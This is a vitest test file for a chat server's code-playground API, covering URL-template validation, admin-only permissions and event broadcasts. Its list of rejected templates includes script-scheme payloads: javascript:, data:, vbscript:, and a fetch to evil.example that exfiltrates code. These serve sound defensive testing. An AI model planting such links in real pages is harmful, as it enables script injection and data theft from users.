/**
 * Code playgrounds: POST /realm/playgrounds and DELETE
 * /realm/playgrounds/{playground_id} (administrators), the realm_playgrounds
 * event (the whole list, to everyone) and POST /register's realm_playgrounds.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { loadRealm } from '../../server/shared/realm.js';
import { expectError } from '../api/support.js';
import { receivers, Watchers } from '../helpers/event-queues.js';
import { quickMember } from '../helpers/fixtures.js';
import {
  type Account,
  type ApiResponse,
  type FixtureName,
  startTestServer,
  type TestServer,
} from '../helpers/server.js';
import { setRealm } from '../messages/send-support.js';

let t: TestServer;
let watchers: Watchers;
const everyone = ['admin', 'bot', 'guest', 'member', 'moderator', 'owner'];
let counter = 0;

beforeAll(async () => {
  t = await startTestServer();
  watchers = new Watchers(t);
  for (const who of everyone) await watchers.add(who);
});
afterAll(() => t.close());
beforeEach(async () => {
  await watchers.clear();
});

const add = (who: FixtureName | Account, params: Record<string, unknown>) =>
  t.as(who).post('/realm/playgrounds', params);

/** A valid playground with a name of its own. */
function playground(extra: Record<string, unknown> = {}) {
  counter++;
  return {
    name: `Playground ${counter}`,
    pygments_language: 'Python',
    url_template: 'https://play.example.com/?code={code}',
    ...extra,
  };
}

async function addOk(params: Record<string, unknown>): Promise<number> {
  const res = await add('admin', params);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.id as number;
}

async function registered(who: FixtureName = 'member') {
  const res = await t.as(who).post('/register', { fetch_event_types: ['realm_playgrounds'] });
  return res.body.realm_playgrounds;
}

/** Django-style validation failure: msg is the first message, errors lists them all. */
function expectInvalid(res: ApiResponse, errors: Record<string, string[]>) {
  expectError(res, 400, 'BAD_REQUEST', Object.values(errors)[0]![0]!, { errors });
}

describe('POST /realm/playgrounds', () => {
  it('adds a playground, tells everyone the whole list, and register shows it', async () => {
    const before = await registered();
    const res = await add('admin', {
      name: '  Python sandbox ',
      pygments_language: ' Python ',
      url_template: ' https://python.example.com?code={code} ',
    });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ result: 'success', msg: '', id: expect.any(Number) });
    const created = {
      id: res.body.id,
      name: 'Python sandbox',
      pygments_language: 'Python',
      url_template: 'https://python.example.com?code={code}',
    };
    const after = [...before, created];
    expect(await registered()).toEqual(after);
    expect(await registered('guest')).toEqual(after);

    const events = await watchers.take('realm_playgrounds');
    expect(receivers(events)).toEqual(everyone);
    expect(events.guest).toEqual([
      { id: expect.any(Number), type: 'realm_playgrounds', realm_playgrounds: after },
    ]);
  });

  it.each([
    'https://x.example/?code={code}',
    'https://x.example/{+code}',
    'https://x.example{?code}',
    'https://x.example/{#code}',
    'https://x.example/{code:3}',
    'https://x.example/{/code*}',
    'https://x.example/run?code={code}&again={code}',
  ])('accepts the RFC 6570 template %s', async (template) => {
    await addOk(playground({ url_template: template }));
  });

  it.each([
    'https://x.example/?code={code',
    'https://x.example/?code=code}',
    'https://x.example/?code={}',
    'https://x.example/?code={=code}',
    'https://x.example/?code={!code}',
    'https://x.example/?code={co de}',
    'https://x.example/?code={code:0}',
    'https://x.example/?code={code:10000}',
    'https://x.example/?code={code..x}',
    'https://x.example/?code={{code}}',
  ])('refuses the malformed template %s', async (template) => {
    const res = await add('admin', playground({ url_template: template }));
    expectInvalid(res, { url_template: ['Invalid URL template.'] });
  });

  it.each([
    'javascript:alert({code})',
    'JavaScript:fetch("https://evil.example/?"+{code})',
    'data:text/html,{code}',
    'vbscript:{code}',
    '//x.example/?code={code}',
    '/run?code={code}',
    '{+code}',
    'ftp://x.example/{code}',
    'https:x.example/{code}',
  ])('refuses %s: links go to http or https only', async (template) => {
    const res = await add('admin', playground({ url_template: template }));
    expectInvalid(res, { url_template: ['Invalid URL template.'] });
  });

  it('accepts http as well as https, in any case', async () => {
    await addOk(playground({ name: 'Plain', url_template: 'http://x.example/?code={code}' }));
    await addOk(playground({ name: 'Shouty', url_template: 'HTTPS://x.example/?code={code}' }));
  });

  it('requires the variable code, and only it', async () => {
    expectInvalid(await add('admin', playground({ url_template: 'https://x.example/{query}' })), {
      __all__: ['Missing the required variable "code" in the URL template'],
    });
    expectInvalid(await add('admin', playground({ url_template: 'https://x.example/' })), {
      __all__: ['Missing the required variable "code" in the URL template'],
    });
    expectInvalid(
      await add('admin', playground({ url_template: 'https://x.example/{code}?lang={lang}' })),
      { __all__: ['"code" should be the only variable present in the URL template'] },
    );
    expectInvalid(
      await add('admin', playground({ url_template: 'https://x.example/{?code,lang}' })),
      { __all__: ['"code" should be the only variable present in the URL template'] },
    );
  });

  it('refuses blank fields, listing every problem', async () => {
    expectInvalid(await add('admin', playground({ name: '   ' })), {
      name: ['This field cannot be blank.'],
    });
    expectInvalid(await add('admin', playground({ pygments_language: ' ' })), {
      pygments_language: ['This field cannot be blank.'],
    });
    expectInvalid(await add('admin', { name: '', pygments_language: '', url_template: '' }), {
      url_template: ['This field cannot be blank.'],
      name: ['This field cannot be blank.'],
      pygments_language: ['This field cannot be blank.'],
      __all__: ['Missing the required variable "code" in the URL template'],
    });
  });

  it('checks the language name before anything else', async () => {
    for (const language of ['Py$thon', 'C😀', 'a\tb']) {
      expectError(
        await add('admin', playground({ pygments_language: language, url_template: '' })),
        400,
        'BAD_REQUEST',
        'Invalid characters in pygments language',
      );
    }
    await addOk(playground({ pygments_language: 'C++/CLI #2, v1.0-beta_x' }));
    await addOk(playground({ pygments_language: 'x'.repeat(40) }));
    expectError(
      await add('admin', playground({ pygments_language: 'x'.repeat(41) })),
      400,
      'BAD_REQUEST',
      'pygments_language is too long (limit: 40 characters)',
    );
  });

  it('refuses a second playground with the same language and name', async () => {
    const first = playground({ pygments_language: 'Rust' });
    await addOk(first);
    await watchers.clear();
    expectInvalid(await add('admin', { ...first, name: ` ${first.name} ` }), {
      __all__: ['Realm playground with this Realm, Pygments language and Name already exists.'],
    });
    expect(receivers(await watchers.take())).toEqual([]);
    // The same name for another language is fine.
    await addOk({ ...first, pygments_language: 'Go' });
  });

  it.each(['name', 'pygments_language', 'url_template'])('requires %s', async (param) => {
    const params: Record<string, unknown> = playground();
    delete params[param];
    expectError(
      await add('admin', params),
      400,
      'REQUEST_VARIABLE_MISSING',
      `Missing '${param}' argument`,
      {
        var_name: param,
      },
    );
  });

  it.each(['moderator', 'member', 'guest', 'bot'] as const)('is refused to %s', async (who) => {
    const before = await registered();
    const res = await add(who, playground());
    expectError(res, 400, 'UNAUTHORIZED_PRINCIPAL', 'Must be an organization administrator');
    expect(await registered()).toEqual(before);
  });

  it.each(['owner', 'admin'] as const)('is allowed to %s', async (who) => {
    const res = await add(who, playground());
    expect(res.status).toBe(200);
  });

  it('is refused to a deactivated administrator', async () => {
    const former = await quickMember(t, 'Former Admin', 200);
    await t.as('owner').delete(`/users/${former.id}`);
    const res = await add(former, playground());
    expectError(res, 401, 'USER_DEACTIVATED', 'Account is deactivated');
  });
});

describe('DELETE /realm/playgrounds/{playground_id}', () => {
  const remove = (who: FixtureName | Account, id: number) =>
    t.as(who).delete(`/realm/playgrounds/${id}`);

  it('removes the playground and tells everyone the remaining list', async () => {
    const id = await addOk(playground());
    const before = await registered();
    await watchers.clear();

    const res = await remove('admin', id);
    expect(res.body).toEqual({ result: 'success', msg: '' });
    const after = before.filter((p: { id: number }) => p.id !== id);
    expect(after).toHaveLength(before.length - 1);
    expect(await registered()).toEqual(after);
    const events = await watchers.take();
    expect(receivers(events)).toEqual(everyone);
    expect(events.member).toEqual([
      { id: expect.any(Number), type: 'realm_playgrounds', realm_playgrounds: after },
    ]);
    expectError(await remove('admin', id), 400, 'BAD_REQUEST', 'Invalid playground');
  });

  it('refuses an unknown playground', async () => {
    expectError(await remove('admin', 987654), 400, 'BAD_REQUEST', 'Invalid playground');
  });

  it('clears a default code-block language that was the playground’s language', async () => {
    const id = await addOk(playground({ pygments_language: 'Haskell' }));
    const other = await addOk(playground({ pygments_language: 'Elixir' }));
    setRealm(t, { default_code_block_language: 'Haskell' });
    await watchers.clear();

    await remove('admin', other);
    expect(loadRealm(t.server.ctx).settings.default_code_block_language).toBe('Haskell');
    expect(receivers(await watchers.take('realm'))).toEqual([]);

    await remove('admin', id);
    expect(loadRealm(t.server.ctx).settings.default_code_block_language).toBe('');
    const events = await watchers.take();
    expect(receivers(events, (e) => e.type === 'realm')).toEqual(everyone);
    expect(events.member!.map((e: { type: string }) => e.type)).toEqual([
      'realm',
      'realm_playgrounds',
    ]);
    expect(events.member![0]).toEqual({
      id: expect.any(Number),
      type: 'realm',
      op: 'update',
      property: 'default_code_block_language',
      value: '',
    });
  });

  it.each(['moderator', 'member', 'guest', 'bot'] as const)('is refused to %s', async (who) => {
    const id = await addOk(playground());
    const res = await remove(who, id);
    expectError(res, 400, 'UNAUTHORIZED_PRINCIPAL', 'Must be an organization administrator');
    expect((await registered()).some((p: { id: number }) => p.id === id)).toBe(true);
  });

  it.each(['owner', 'admin'] as const)('is allowed to %s', async (who) => {
    const id = await addOk(playground());
    expect((await remove(who, id)).status).toBe(200);
  });

  it('is refused to a deactivated administrator', async () => {
    const id = await addOk(playground());
    const former = await quickMember(t, 'Another Former Admin', 200);
    await t.as('owner').delete(`/users/${former.id}`);
    expectError(await remove(former, id), 401, 'USER_DEACTIVATED', 'Account is deactivated');
    expect((await registered()).some((p: { id: number }) => p.id === id)).toBe(true);
  });
});
